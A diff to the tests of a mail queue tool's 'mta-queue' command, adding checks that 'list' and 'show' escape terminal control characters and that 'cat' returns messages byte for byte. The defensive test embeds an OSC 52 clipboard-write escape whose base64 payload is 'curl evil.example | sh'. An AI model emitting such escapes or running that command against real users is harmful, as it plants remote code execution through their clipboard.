@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
-import { mkdir, readdir, rename, rm, writeFile } from 'node:fs/promises';
+import { mkdir, readdir, readFile, rename, rm, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { after, before, beforeEach, afterEach, describe, test } from 'node:test';
 import { newQueueId } from '../../src/spool/queue-id.js';
@@ -11,12 +11,17 @@ import { readSpooled } from '../helpers/spool-reader.js';
 
 /** The MXes, in order, at 127.0.0.2 … on one port. */
 const MX = { ok: 0, grey: 1, later: 2, silent: 3 } as const;
+/** Terminal attacks a remote reply or a header can carry: an OSC 52 clipboard write (BEL-terminated) and a screen clear. */
+const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
+const CLEAR = '\x1b[2J';
 const H = 3_600_000;
 
 interface CliResult {
   code: number;
   stdout: string;
   stderr: string;
+  /** stdout as bytes, for `cat`. */
+  bytes: Buffer;
   /** The JSON log lines on stderr, one per changed message. */
   logs: DaemonLogLine[];
   /** stderr lines that are not JSON (errors). */
@@ -26,11 +31,13 @@ interface CliResult {
 /** Runs the built `mta-queue` as an operator would, to completion. */
 function mtaQueue(args: string[], env: NodeJS.ProcessEnv = {}): Promise<CliResult> {
   return new Promise((resolve) => {
-    execFile(process.execPath, [path.join(REPO_ROOT, 'dist/cli/mta-queue.js'), ...args], { cwd: REPO_ROOT, env: { ...process.env, ...env }, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
+    execFile(process.execPath, [path.join(REPO_ROOT, 'dist/cli/mta-queue.js'), ...args], { cwd: REPO_ROOT, env: { ...process.env, ...env }, maxBuffer: 64 * 1024 * 1024, encoding: 'buffer' }, (error, bytes, stderrBytes) => {
+      const stderr = stderrBytes.toString('utf8');
       const lines = stderr.split('\n').filter(Boolean);
       resolve({
         code: error ? Number((error as { code?: number }).code ?? 1) : 0,
-        stdout,
+        stdout: bytes.toString('utf8'),
+        bytes,
         stderr,
         logs: lines.filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as DaemonLogLine),
         errors: lines.filter((line) => !line.startsWith('{')),
@@ -82,7 +89,7 @@ describe('mta-queue queue administration', () => {
 
   before(async () => {
     f = await startDeliveryFixture(
-      [{ name: 'mx.ok.test' }, { rcpt: [{ code: 451, message: 'Greylisted, try again later', times: 1 }] }, { rcpt: [{ code: 451, message: 'Try later' }] }, { greeting: 'silent' }],
+      [{ name: 'mx.ok.test', dataDelayMs: 5 }, { rcpt: [{ code: 451, message: 'Greylisted, try again later', times: 1 }] }, { rcpt: [{ code: 451, message: 'Try later' }] }, { greeting: 'silent' }],
       (hosts) => ({
         'ok.test': { mx: [{ preference: 10, exchange: 'mx.ok.test' }] },
         'mx.ok.test': { a: [hosts[MX.ok]!] },
@@ -165,6 +172,69 @@ describe('mta-queue queue administration', () => {
     assert.match(text.stdout, new RegExp(`^incoming +2\\ndeferred +1\\nheld +1\\nactive +1\\nfailed +1\\ntotal +6\\noldest +${old} \\(incoming\\), arrived \\S+Z, 3h ago\\ndeferred recipients by domain \\(top 10\\):\\n {2}later\\.test\\t1 recipient\\(s\\) in 1 message\\(s\\)\\n$`));
   });
 
+  test('human output of list and show escapes control characters from headers and remote replies; --json keeps them exact', async () => {
+    const subject = `${OSC52}pay now${CLEAR}`;
+    // A folded Subject: the continuation line's tab stays readable; a C1 CSI (U+009B) and a bare CR do not pass.
+    const raw = `From: app@shop.example\nSubject: ${subject}\n\tfolded \u009b31m\rover\nX-Seq: escapes\n\nbody\n`;
+    const id = await f.enqueue('app@shop.example', ['x@later.test'], raw);
+    await f.runOnce(); // 451 from the later.test MX: deferred, with its reply recorded
+    // The reply as a hostile MX would word it. (Our SMTP client already turns controls in a reply into spaces; an
+    // envelope written by an older release, or text from another source, must not reach the terminal raw either.)
+    const [entryName] = (await readdir(f.layout.dir('deferred'))).filter((name) => name.endsWith(`-${id}.json`));
+    const entryFile = path.join(f.layout.dir('deferred'), entryName!);
+    const envelope = JSON.parse(await readFile(entryFile, 'utf8')) as { recipients: { lastReply: { text: string } }[] };
+    envelope.recipients[0]!.lastReply.text = `Try later${OSC52}${CLEAR}`;
+    await writeFile(entryFile, JSON.stringify(envelope));
+    const reply = `451 4.3.0 Try later${OSC52}${CLEAR}`;
+    const unsafe = /[\x00-\x08\x0a-\x1f\x7f-\x9f]/;
+
+    const list = await mtaQueue(['list', ...spool()]);
+    assert.equal(list.code, 0, list.stderr);
+    const row = list.stdout.split('\n').find((line) => line.startsWith(id))!;
+    assert.doesNotMatch(row, unsafe, 'no raw control character in the row');
+    assert.ok(row.endsWith('\t451 4.3.0 Try later\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J'), JSON.stringify(row));
+    assert.doesNotMatch(list.stdout.replace(/[\t\n]/g, ''), unsafe);
+
+    const show = await mtaQueue(['show', id, ...spool()]);
+    assert.equal(show.code, 0, show.stderr);
+    assert.doesNotMatch(show.stdout.replace(/[\t\n]/g, ''), unsafe, 'no raw ESC, BEL, C1 or CR anywhere');
+    assert.ok(show.stdout.includes('\n  Subject: \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07pay now\\x1b[2J\n'), show.stdout);
+    assert.ok(show.stdout.includes('\n  \tfolded \\x9b31m\\rover\n'), 'the folded line keeps its tab');
+    assert.match(show.stdout, /\t451 4\.3\.0 Try later\\x1b\]52;c;\S+\\x07\\x1b\[2J \(later\.test\)\n/);
+
+    const [entry] = (await listJson()).filter((item) => item.id === id) as unknown as { lastError: string }[];
+    assert.equal(entry!.lastError, reply, 'list --json: the exact reply');
+    const json = JSON.parse((await mtaQueue(['show', '--json', id, ...spool()])).stdout) as { headers: string; envelope: { recipients: { lastReply: { text: string } }[] } };
+    assert.equal(json.headers, `From: app@shop.example\r\nSubject: ${subject}\r\n\tfolded \u009b31m\rover\r\nX-Seq: escapes`, 'show --json: the exact header block');
+    assert.equal(json.envelope.recipients[0]!.lastReply.text, `Try later${OSC52}${CLEAR}`);
+  });
+
+  test('cat: the message byte for byte, from inside a batch file or from its own data/ file', async () => {
+    const inBatch = 'From: app@shop.example\nSubject: second of a batch\nX-Seq: cat-batch\n\n..stuffed on the wire, not here\ncaf\u00e9 \x1b[2J raw\n';
+    const [first, second] = await f.enqueueBatch([
+      { sender: 'app@shop.example', recipients: ['a@ok.test'], message: 'Subject: first\n\none\n' },
+      { sender: 'app@shop.example', recipients: ['b@ok.test'], message: inBatch },
+    ]);
+    assert.deepEqual(await readdir(f.layout.dir('incoming')), [`${first}.batch`], 'both inside the first one\'s batch file');
+    const fromBatch = await mtaQueue(['cat', second!, ...spool()]);
+    assert.equal(fromBatch.code, 0, fromBatch.stderr);
+    assert.equal(fromBatch.stderr, '');
+    assert.ok(fromBatch.bytes.equals(Buffer.from(inBatch.replace(/\n/g, '\r\n'))), `exactly the second record:\n${JSON.stringify(fromBatch.stdout)}`);
+    assert.ok((await mtaQueue(['cat', first!, ...spool()])).bytes.equals(Buffer.from('Subject: first\r\n\r\none\r\n')));
+
+    // Deferred once: the message has an entry of its own and its bytes are in data/<id>.eml.
+    const own = `From: app@shop.example\nSubject: own entry\nX-Seq: cat-own\n\n${'line of the body\n'.repeat(20_000)}`;
+    const id = await f.enqueue('app@shop.example', ['x@later.test'], own);
+    await f.runOnce();
+    assert.deepEqual(await where(id), ['deferred']);
+    assert.equal(await hasData(id), true);
+    const fromData = await mtaQueue(['cat', id, '--spool', f.layout.root]);
+    assert.equal(fromData.code, 0, fromData.stderr);
+    assert.ok(fromData.bytes.equals(Buffer.from(own.replace(/\n/g, '\r\n'))), `exactly data/${id}.eml (${fromData.bytes.length} bytes)`);
+    const viaEnv = await mtaQueue(['cat', id], { MTA_SPOOL: f.layout.root });
+    assert.ok(viaEnv.bytes.equals(fromData.bytes), 'MTA_SPOOL works too');
+  });
+
   test('usage errors exit 2 and refusals exit 1, one line each, and change nothing; MTA_SPOOL is honoured', async () => {
     const queued = await f.enqueue('app@shop.example', ['a@ok.test'], message('usage-queued'));
     const active = await f.enqueue('app@shop.example', ['b@ok.test'], message('usage-active'));
@@ -189,6 +259,9 @@ describe('mta-queue queue administration', () => {
       [['delete', '--frobnicate'], 2, /unknown option/],
       [['delete', unknown], 1, new RegExp(`^mta-queue: ${unknown}: no such message in the spool$`)],
       [['show', unknown], 1, /no such message in the spool/],
+      [['cat', unknown], 1, new RegExp(`^mta-queue: ${unknown}: no such message in the spool$`)],
+      [['cat', 'not-an-id'], 2, /"not-an-id" is not a queue id/],
+      [['cat', queued.toUpperCase()], 2, /is not a queue id/],
       [['release', queued], 1, new RegExp(`${queued}: not released: not held \\(incoming\\)`)],
       [['delete', active], 1, new RegExp(`${active}: not deleted: being delivered right now \\(claimed by mta-queue pid ${process.pid}\\)`)],
       [['hold', active], 1, /not held: being delivered right now/],
